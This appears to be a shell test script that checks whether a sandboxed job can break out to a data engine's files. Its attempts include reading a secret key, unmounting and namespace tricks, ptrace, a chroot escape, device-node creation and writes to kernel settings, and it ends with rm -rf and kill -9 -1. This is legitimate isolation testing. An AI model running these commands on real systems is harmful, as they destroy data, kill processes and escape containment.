# What a job tries that wants to get at the engine's stored content. Each way that works is a line that begins with BREACH.
# $ENGINE_HOME is the engine's folder, $ENGINE_PID its process, $OBJECT a stored object's file.
# It kills all that it can reach: outside of a slot, whose first process is a shell, that would be the whole machine.
grep -qx sh /proc/1/comm && [ -d /pfs/out ] || exit 1

breach() { echo "BREACH: $*"; }
holds() { ls -A "$1" 2>/dev/null | grep -q engine.db; }

# By its path.
holds "$ENGINE_HOME" && breach "the home can be seen"
cat "$ENGINE_HOME/secret.key" "$OBJECT" && breach "files can be read"
{ echo changed > "$OBJECT" || echo changed > "$ENGINE_HOME/engine.db" || touch "$ENGINE_HOME/x"; } && breach "files can be written"
chmod -R 777 "$ENGINE_HOME" && holds "$ENGINE_HOME" && breach "the mode can be changed"
rm -rf "$ENGINE_HOME"/* "$ENGINE_HOME"
mv "$ENGINE_HOME" "$ENGINE_HOME-moved" && breach "the home can be moved"

# What hides it is taken away.
umount "$ENGINE_HOME" || umount -l "$ENGINE_HOME" || mount -o remount,rw "$ENGINE_HOME" || mount --move "$ENGINE_HOME" /pfs/out
holds "$ENGINE_HOME" && breach "the cover can be taken off"
unshare --user --map-root-user --mount sh -c 'umount "$0"; umount -l "$0"; ls -A "$0"' "$ENGINE_HOME" | grep engine.db && breach "the cover can be taken off in a namespace"
parent=${ENGINE_HOME%/*}
mkdir -p /pfs/out/m
for source in / "$parent" "$ENGINE_HOME"; do
  unshare --user --map-root-user --mount sh -c 'mount --bind "$0" /pfs/out/m && ls -A "/pfs/out/m/$1" "/pfs/out/m/${1##*/}" "/pfs/out/m"' "$source" "$ENGINE_HOME" |
    grep engine.db && breach "$source can be mounted elsewhere"
  mount --bind "$source" /pfs/out/m && breach "$source can be bound"
done
rmdir /pfs/out/m

# Through processes.
for process in /proc/[0-9]* /proc/self /proc/thread-self; do
  holds "$process/root$ENGINE_HOME" && breach "$process/root shows the home"
  holds "$process/cwd" && breach "$process/cwd is the home"
  ls -l "$process/fd" | grep "$ENGINE_HOME" && breach "$process has files of the home open"
  tr '\0' ' ' < "$process/cmdline" | grep "engine-child" && breach "$process is the engine"
done
kill -0 "$ENGINE_PID" && readlink "/proc/$ENGINE_PID/exe" | grep node && breach "the engine can be signalled"
for space in 1 "$ENGINE_PID"; do
  nsenter --target "$space" --all ls -A "$ENGINE_HOME" | grep engine.db && breach "the namespaces of $space can be entered"
done
"$PYTHON" - "$ENGINE_PID" <<'PYTHON_END' && breach "the engine can be traced"
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
sys.exit(0 if libc.ptrace(16, int(sys.argv[1]), 0, 0) == 0 else 1)
PYTHON_END
"$PYTHON" - "$ENGINE_HOME" <<'PYTHON_END' && breach "a root can be left"
import os, sys
os.makedirs("/pfs/out/jail")
top = os.open("/", os.O_RDONLY)
os.chroot("/pfs/out/jail")
os.fchdir(top)
for _ in range(64):
    os.chdir("..")
os.chroot(".")
sys.exit(0 if "engine.db" in os.listdir(sys.argv[1]) else 1)
PYTHON_END

# Through links.
ln "$OBJECT" /pfs/out/hard && breach "an object can be linked"
ln -s "$OBJECT" /pfs/out/soft && echo changed > /pfs/out/soft && breach "an object can be written through a link"
rm -f /pfs/out/soft
ln /pfs/data/small /pfs/out/input && echo changed > /pfs/out/input && rm /pfs/out/input

# Through the disk and the kernel.
find /dev -type b | grep . && breach "there are disks"
mknod /tmp/stemma-disk-$$ b "$((DISK / 256))" "$((DISK % 256))" && head -c 1 /tmp/stemma-disk-$$ && breach "a disk can be made"
rm -f /tmp/stemma-disk-$$
for setting in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sysrq-trigger; do
  sh -c ': >> "$0"' "$setting" && breach "$setting can be written"
done
find /sys -name cgroup.procs -path '*cgroup*' 2>/dev/null | head -n 3 | while read -r group; do
  sh -c ': >> "$0"' "$group" && breach "$group can be written"
done
for folder in /etc /usr/bin; do touch "$folder/stemma-attack" && rm "$folder/stemma-attack" && breach "$folder can be written"; done
find /run -type s 2>/dev/null | grep . && breach "services of the machine can be reached"

# In place.
chmod -R 777 /pfs/data
for file in /pfs/data/*; do echo changed > "$file"; done
rm -rf /pfs/data
kill -9 "$ENGINE_PID"
echo "all was tried"
kill -9 1
kill -9 -1
